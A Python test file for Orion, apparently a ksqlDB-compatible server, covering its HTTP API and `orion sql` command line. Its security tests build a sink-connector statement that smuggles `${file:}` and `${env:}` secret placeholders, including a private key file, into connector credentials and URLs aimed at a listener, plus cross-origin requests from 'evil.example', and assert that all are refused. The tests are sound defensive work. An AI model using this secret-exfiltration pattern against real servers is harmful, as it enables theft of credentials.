"""The HTTP API and the commands over it, as a user meets them: a real server, `orion sql` as a process."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from base64 import b64encode
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from orion.app import Orion
from orion.web.server import Server
from orion.web.sockets import bound

MUSIC = """
CREATE STREAM door (k STRING KEY, v INT) WITH (kafka_topic='door', value_format='JSON', partitions=1);
INSERT INTO door (k, v) VALUES ('a', 1);
INSERT INTO door (k, v) VALUES ('b', 2);
"""


@pytest.fixture(scope="module")
def url(orion: Orion) -> Iterator[str]:
    with bound("127.0.0.1", 0) as sock:
        server = Server.start(orion, sock)
        orion.execute(MUSIC)
        yield server.url
        server.stop()


def sql(url: str, *arguments: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "orion", "sql", "--url", url, *arguments],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env=os.environ | {"NO_COLOR": "1"},
    )


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A server of somebody else's, and what it was sent."""
    got: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    client, _ = server.accept()
                except OSError:
                    return
                with client:
                    client.settimeout(150)
                    got.append(client.recv(65536))
                    client.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}")

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", got
        server.shutdown(socket.SHUT_RDWR)
    thread.join(30)


def stolen(place: str, to: str, name: str) -> dict[str, str]:
    options = {
        "connector.class": "elasticsearch",
        "topics": "door",
        "connection.url": to,
        "connection.username": "u",
        "connection.password": place,
    }
    written = ", ".join(f"'{option}' = '{value}'" for option, value in options.items())
    return {"ksql": f"CREATE SINK CONNECTOR {name} WITH ({written});"}


def test_no_page_and_no_statement_carries_a_file_away(
    url: str, listener: tuple[str, list[bytes]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    to, got = listener
    secret = tmp_path / "id_rsa"
    secret.write_text("-----BEGIN KEY-----", encoding="utf-8")
    monkeypatch.setenv("DOOR_SECRET", "hush")
    page = {"origin": "https://evil.example", "content-type": "text/plain"}
    body = json.dumps(stolen(f"${{file:{secret}}}", to, "ev"))
    assert httpx.post(f"{url}/ksql", content=body, headers=page, timeout=150).status_code == 403
    assert httpx.post(f"{url}/ksql", content=body, headers={"host": "evil.example"}, timeout=150).status_code == 403
    del page["origin"]
    assert httpx.post(f"{url}/ksql", content=body, headers=page, timeout=150).status_code == 415
    for place, setting in ((f"${{file:{secret}}}", "secrets.folders"), ("${env:DOOR_SECRET}", "secrets.variables")):
        refused = httpx.post(f"{url}/ksql", json=stolen(place, to, "ev"), timeout=150)
        assert (refused.status_code, refused.json()["code"]) == (400, "SECRET_NOT_ALLOWED")
        assert setting in refused.json()["hint"]
        hidden = httpx.post(f"{url}/ksql", json=stolen("p", f"{to}/{place}", "ev"), timeout=150)
        assert hidden.json()["code"] == "SECRET_NOT_ALLOWED"
        config = {"connector.class": "elasticsearch", "topics": "door", "connection.url": f"{to}/{place}"}
        made = httpx.put(f"{url}/connectors/ev/config", json=config, timeout=150)
        assert made.status_code == 400
        checked = httpx.put(
            f"{url}/connector-plugins/elasticsearch/config/validate", json={**config, "name": "ev"}, timeout=150
        )
        assert "hush" not in checked.text
        assert "BEGIN KEY" not in checked.text
    assert got == []
    assert not {"ev", "EV"} & set(httpx.get(f"{url}/connectors", timeout=150).json())


def test_what_stands_in_the_data_folder_s_secrets_is_used(
    url: str, orion: Orion, listener: tuple[str, list[bytes]]
) -> None:
    """The same statement with a file that may be read reaches the other side, which shows that the listener hears."""
    to, got = listener
    folder = orion.engine.config.data / "secrets"
    folder.mkdir(exist_ok=True)
    (folder / "search").write_text("hush", encoding="utf-8")
    httpx.post(f"{url}/ksql", json=stolen("${file:search}", to, "kept"), timeout=150)
    assert any(b"Basic " + b64encode(b"u:hush") in one for one in got)
    httpx.post(f"{url}/ksql", json={"ksql": "DROP CONNECTOR IF EXISTS kept;"}, timeout=150)


def test_rows_are_no_other_site_s(url: str) -> None:
    asked = quote(json.dumps({"ksql": "SELECT * FROM door;"}))
    for headers in ({"origin": "https://evil.example"}, {"host": "evil.example"}):
        for path in ("/info", "/healthcheck", "/topics", "/connectors", f"/ws/query?request={asked}"):
            assert httpx.get(f"{url}{path}", headers=headers, timeout=150).status_code == 403


def test_info_and_health(url: str) -> None:
    info = httpx.get(f"{url}/info").json()["KsqlServerInfo"]
    assert (info["ksqlServiceId"], info["serverStatus"]) == ("orion", "RUNNING")
    assert httpx.get(f"{url}/healthcheck", timeout=150).json()["details"]["kafka"] == {"isHealthy": True}


def test_statements_answer_with_entities(url: str) -> None:
    answer = httpx.post(f"{url}/ksql", json={"ksql": "SHOW STREAMS; DESCRIBE door;"}, timeout=150).json()
    assert [e["@type"] for e in answer] == ["streams", "sourceDescription"]
    assert "DOOR" in {s["name"] for s in answer[0]["streams"]}
    assert answer[1]["sourceDescription"]["fields"][0] == {
        "name": "K",
        "schema": {"type": "STRING", "fields": None, "memberSchema": None},
        "type": "KEY",
    }


def test_a_wrong_statement_says_where_and_what_to_do(url: str) -> None:
    refused = httpx.post(f"{url}/ksql", json={"ksql": "CREATE STREAM x AS SELECT vv, k FROM door EMIT CHANGES;"})
    assert refused.status_code == 400
    body = refused.json()
    assert (body["@type"], body["error_code"], body["code"]) == ("statement_error", 40001, "UNKNOWN_COLUMN")
    assert (body["line"], body["column"], body["hint"]) == (1, 27, "Did you mean V?")


@pytest.mark.parametrize("body", [b"", b"{", b"[]", b'{"ksql": 5}'])
def test_a_body_that_is_no_request_is_refused(url: str, body: bytes) -> None:
    refused = httpx.post(f"{url}/ksql", content=body)
    assert (refused.status_code, refused.json()["code"]) == (400, "BAD_REQUEST")


@pytest.mark.parametrize("accept", ["application/vnd.ksqlapi.delimited.v1", "application/json"])
def test_a_push_query_streams_a_head_and_rows(url: str, accept: str) -> None:
    body = {
        "sql": "SELECT k, v * 10 AS v FROM door EMIT CHANGES LIMIT 2;",
        "properties": {"auto.offset.reset": "earliest"},
    }
    with httpx.stream("POST", f"{url}/query-stream", json=body, headers={"accept": accept}, timeout=150) as response:
        assert response.headers["content-type"].startswith(accept)
        text = response.read().decode()
    lines = json.loads(text) if accept == "application/json" else [json.loads(line) for line in text.splitlines()]
    assert (lines[0]["columnNames"], lines[0]["columnTypes"]) == (["K", "V"], ["STRING", "INTEGER"])
    assert lines[1:] == [["a", 10], ["b", 20]]


def test_a_push_query_can_be_closed_by_its_id(url: str, orion: Orion) -> None:
    body = {"sql": "SELECT * FROM door EMIT CHANGES;"}
    with httpx.stream("POST", f"{url}/query-stream", json=body, timeout=150) as response:
        lines = response.iter_lines()
        query = json.loads(next(lines))["queryId"]
        assert httpx.post(f"{url}/close-query", json={"queryId": query}, timeout=150).status_code == 200
        assert list(lines) == []
    assert query not in {s.name for s in orion.spark.streams.active}


@pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl to speak cleartext HTTP/2")
def test_cleartext_http2_is_spoken(url: str) -> None:
    command = ["curl", "-s", "-o", os.devnull, "-w", "%{http_version}", "--http2-prior-knowledge", f"{url}/info"]
    assert subprocess.run(command, capture_output=True, text=True, check=True, timeout=150).stdout == "2"


def test_sql_from_the_command_line(url: str) -> None:
    ran = sql(url, "-e", "SET 'auto.offset.reset'='earliest'; SELECT k, v FROM door EMIT CHANGES LIMIT 2;")
    assert ran.returncode == 0, ran.stderr
    assert ran.stdout.splitlines() == ["Property auto.offset.reset set to earliest.", "K\tV", "a\t1", "b\t2"]


def test_sql_from_a_file_and_from_standard_input_as_json(url: str, tmp_path: Path) -> None:
    script = tmp_path / "show.sql"
    script.write_text("-- what there is\nSHOW STREAMS;")
    from_file = sql(url, "-f", str(script), "--json")
    piped = sql(url, "--json", stdin=script.read_text())
    assert json.loads(from_file.stdout)["@type"] == json.loads(piped.stdout)["@type"] == "streams"


def test_sql_errors_have_a_caret_a_hint_and_an_exit_code(url: str) -> None:
    ran = sql(url, "-e", "SELECT kk FROM door EMIT CHANGES;")
    assert ran.returncode == 2
    assert ran.stderr.splitlines() == [
        "error[UNKNOWN_COLUMN]: There is no column KK in DOOR.",
        "  1 | SELECT kk FROM door EMIT CHANGES",
        "             ^^",
        "  hint: Did you mean K?",
    ]
    assert sql(url, "-e", "TERMINATE nobody;").returncode == 3
    assert sql("http://127.0.0.1:9", "-e", "SHOW TOPICS;").returncode == 69


def test_constants_and_the_statement_behind_a_stream(url: str) -> None:
    ran = sql(url, "-e", "SELECT 1; SELECT UCASE('a') AS big, TRANSFORM(ARRAY[1, 2], x => x + 1) AS more;")
    assert ran.stdout.splitlines() == ["KSQL_COL_0", "1", "BIG\tMORE", "A\t[2, 3]"], ran.stderr
    ran = sql(url, "-e", "SHOW CREATE STREAM door;")
    assert ran.stdout.strip() == MUSIC.strip().splitlines()[0]


def test_rows_of_a_stream_as_csv(url: str, tmp_path: Path) -> None:
    ran = sql(url, "-o", str(tmp_path / "x.csv"), "-e", "SELECT k, v FROM door LIMIT 2;")
    assert (ran.returncode, ran.stdout) == (0, ""), ran.stderr
    assert (tmp_path / "x.csv").read_text() == "K,V\na,1\nb,2\n"


def test_print_shows_records_as_they_are(url: str) -> None:
    ran = sql(url, "-e", "PRINT 'door' FROM BEGINNING LIMIT 1;")
    cells = ran.stdout.splitlines()[1].split("\t")
    assert cells[1:] == ["0", "0", "a", '{"V":1}']


def test_rows_that_come_by_http_are_rows_of_the_stream(url: str, orion: Orion) -> None:
    orion.execute(
        "CREATE STREAM fed (k STRING KEY, v INT) WITH (kafka_topic='fed', value_format='JSON', partitions=1);"
    )
    rows = [{"k": "a", "v": 1}, {"k": "b", "v": "two"}, {"k": "c", "v": 3}]
    answer = httpx.post(f"{url}/feeds/fed", json=rows, timeout=150)
    assert (answer.status_code, [one["index"] for one in answer.json()["refused"]]) == (207, [1])
    ran = sql(url, "-e", "SET 'auto.offset.reset'='earliest'; SELECT k, v FROM fed EMIT CHANGES LIMIT 2;")
    assert ran.stdout.splitlines()[2:] == ["a\t1", "c\t3"]
    assert httpx.get(f"{url}/", headers={"accept": "application/vnd.ksql.v1+json"}).headers["location"] == "/info"
    assert "kafka_cluster_id" in httpx.get(f"{url}/", headers={"accept": "application/json"}, timeout=150).json()
